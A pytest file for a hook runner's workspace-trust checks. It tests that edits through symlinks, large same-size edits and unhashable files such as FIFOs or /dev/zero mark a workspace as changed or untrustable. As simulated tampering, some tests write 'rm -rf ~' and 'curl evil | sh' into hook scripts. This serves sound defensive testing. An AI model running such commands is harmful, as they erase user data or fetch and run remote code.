"""Trust covers everything it claims to: the content a hook will execute,
through symlinks and whatever its size; files that cannot be hashed (a FIFO, a device, a file
over the hashing limit) make the workspace untrustable, with a message, and never block."""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import TypeVar

import pytest
import trio

from triohooks.config.model import TrustInfo
from triohooks.config.table import load_table
from triohooks.config.trust import record_trust

from .helpers import run_cli, write_toml_hooks

T = TypeVar("T")

HOOK = '[[hooks.pre_tool]]\ncommand = "bash scripts/check.sh --strict"\n'
GUARD = (
    '[[hooks.pre_tool]]\nid = "no-push"\nif = "shell(git push)"\n'
    "command = \"echo 'pushing is for humans' >&2; exit 2\"\n"
)


class Ws:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.ws = root / "ws"
        self.g = root / "g"
        self.outside = root / "outside"
        (self.ws / "scripts").mkdir(parents=True)
        self.g.mkdir()
        self.outside.mkdir()

    @property
    def script(self) -> Path:
        return self.ws / "scripts" / "check.sh"

    def hooks(self, text: str = HOOK) -> Path:
        return write_toml_hooks(self.ws / ".agents", text)

    def info(self) -> TrustInfo:
        t = load_table(workspace=self.ws, config_dir=self.g, trust_override=True)
        assert t.trust is not None
        return t.trust

    def trust(self) -> None:
        record_trust(self.g, self.ws, self.info())

    def state(self) -> str:
        t = load_table(workspace=self.ws, config_dir=self.g)
        assert t.trust is not None
        return t.trust.state

    def cli(self, *args: str, stdin: str = "{}") -> subprocess.CompletedProcess[str]:
        # In a child: a read of /dev/zero must fail fast (MemoryError), not take the machine's
        # memory, and a read that blocks must not hang the suite.
        return run_cli(
            *args,
            config_dir=self.g,
            state_dir=self.root / "state",
            cwd=self.ws,
            stdin=stdin,
            process=True,
            timeout=30,
            memory_limit=1536 * 1024 * 1024,
        )


@pytest.fixture
def w(tmp_path: Path) -> Ws:
    return Ws(tmp_path)


@pytest.fixture
def fifo() -> Iterator[Callable[[Path], Path]]:
    """Make FIFOs; on teardown release any reader stuck on one (a regression)."""
    made: list[Path] = []

    def make(path: Path) -> Path:
        os.mkfifo(path)
        made.append(path)
        return path

    yield make
    for path in made:
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            continue


async def in_thread(fn: Callable[[], T], seconds: float = 5) -> T:
    with trio.fail_after(seconds):
        return await trio.to_thread.run_sync(fn, abandon_on_cancel=True)


# -- symlinks: the target is what runs, so the target is what is hashed ------------------------
def test_editing_the_outside_target_of_a_linked_script_is_a_change(w: Ws) -> None:
    target = w.outside / "check.sh"
    target.write_text("#!/bin/sh\nexit 0\n")
    w.script.symlink_to(target)
    w.hooks()
    w.trust()
    assert w.state() == "trusted"
    target.write_text("#!/bin/sh\nrm -rf ~\n")
    assert w.state() == "changed"


def test_repointing_a_linked_script_is_a_change_even_to_the_same_content(w: Ws) -> None:
    for name in ("a.sh", "b.sh"):
        (w.outside / name).write_text("#!/bin/sh\nexit 0\n")
    w.script.symlink_to(w.outside / "a.sh")
    w.hooks()
    w.trust()
    w.script.unlink()
    w.script.symlink_to(w.outside / "b.sh")
    assert w.state() == "changed"


def test_a_linked_script_dir_is_followed_too(w: Ws) -> None:
    (w.outside / "bin").mkdir()
    (w.outside / "bin" / "check.sh").write_text("exit 0\n")
    (w.ws / "tools").symlink_to(w.outside / "bin")
    w.hooks('[[hooks.pre_tool]]\nargs = ["bash", "tools/check.sh"]\n')
    w.trust()
    files = w.info().files
    assert str((w.outside / "bin" / "check.sh").resolve()) in files
    (w.outside / "bin" / "check.sh").write_text("curl evil | sh\n")
    assert w.state() == "changed"


def test_programs_named_outside_the_workspace_are_not_hashed(w: Ws) -> None:
    w.hooks('[[hooks.pre_tool]]\ncommand = "/bin/sh -c true"\n')
    files = w.info().files
    assert files == (str((w.ws / ".agents" / "hooks.toml").resolve()),)


# -- size: every byte, whatever the size -------------------------------------------------------
def test_same_size_edit_of_a_big_script_with_its_mtime_restored_is_a_change(w: Ws) -> None:
    size = 17 * 1024 * 1024  # over the old 16 MiB "hash size and mtime only" limit
    w.script.write_bytes(b"#" * size)
    w.hooks()
    w.trust()
    st = w.script.stat()
    with open(w.script, "r+b") as f:
        f.seek(size // 2)
        f.write(b"!")
    os.utime(w.script, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert w.script.stat().st_size == size and w.script.stat().st_mtime_ns == st.st_mtime_ns
    assert w.state() == "changed"


def test_a_file_over_the_hashing_limit_cannot_be_trusted(w: Ws) -> None:
    from triohooks.config.trust import MAX_HASHED_BYTES

    with open(w.script, "wb") as f:
        f.truncate(MAX_HASHED_BYTES + 1)  # sparse: instant, and never read
    hooks = w.hooks()
    r = w.cli("trust")
    assert r.returncode == 1 and "Traceback" not in r.stderr
    (line,) = r.stderr.strip().splitlines()
    assert str(w.script.resolve()) in line and "over the" in line
    assert not (w.g / "trust.json").exists()
    table = load_table(workspace=w.ws, config_dir=w.g)
    assert table.trust is not None and table.trust.state == "new"
    (problem,) = table.problems
    assert problem.file == str(w.script.resolve()) and problem.severity == "warning"
    assert "cannot be trusted" in problem.message
    assert str(hooks.resolve()) in table.trust.files


# -- non-regular files: refused at once, never read ---------------------------------------------
async def test_a_fifo_named_by_a_hook_is_refused_without_blocking(
    w: Ws, fifo: Callable[[Path], Path]
) -> None:
    fifo(w.ws / "scripts" / "check.sh")
    w.hooks()
    table = await in_thread(partial(load_table, workspace=w.ws, config_dir=w.g))
    assert table.trust is not None and table.trust.state == "new"
    (problem,) = table.problems
    assert problem.file == str(w.script) and problem.severity == "warning"
    assert "FIFO" in problem.message and "cannot be trusted" in problem.message
    r = await in_thread(partial(w.cli, "trust"), 40)
    assert r.returncode == 1 and "FIFO" in r.stderr
    assert not (w.g / "trust.json").exists()


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom", "/dev/null"])
def test_a_device_behind_a_linked_script_is_refused(w: Ws, device: str) -> None:
    w.script.symlink_to(device)
    w.hooks()
    r = w.cli("trust")
    assert r.returncode == 1 and "Traceback" not in r.stderr
    assert "character device" in r.stderr and str(Path(device).resolve()) in r.stderr
    assert not (w.g / "trust.json").exists()


def test_a_hook_file_linked_to_dev_zero_leaves_the_guard_on(w: Ws) -> None:
    write_toml_hooks(w.g, GUARD)
    (w.ws / ".agents").mkdir()
    (w.ws / ".agents" / "hooks.toml").symlink_to("/dev/zero")
    push = json.dumps({"tool": "bash", "args": {"command": "git push"}})
    r = w.cli("fire", "pre_tool", stdin=push)
    assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr
    lines = [line for line in r.stderr.splitlines() if "hooks.toml" in line]
    assert len(lines) == 1 and "character device" in lines[0]
    r = w.cli("trust")
    assert r.returncode == 1 and "character device" in r.stderr


def test_untrustable_content_cannot_be_recorded_as_trusted(w: Ws) -> None:
    from triohooks.config.trust import TrustRefusedError

    w.script.symlink_to("/dev/zero")
    w.hooks()
    info = w.info()
    with pytest.raises(TrustRefusedError):
        record_trust(w.g, w.ws, info)
    record_trust(w.g, w.ws, info, "declined")  # declining it is fine
    assert w.state() == "declined"
    # A hand-made record cannot trust it either.
    store = json.loads((w.g / "trust.json").read_text())
    for record in store["workspaces"].values():
        record["decision"] = "trusted"
    (w.g / "trust.json").write_text(json.dumps(store))
    assert w.state() == "changed"
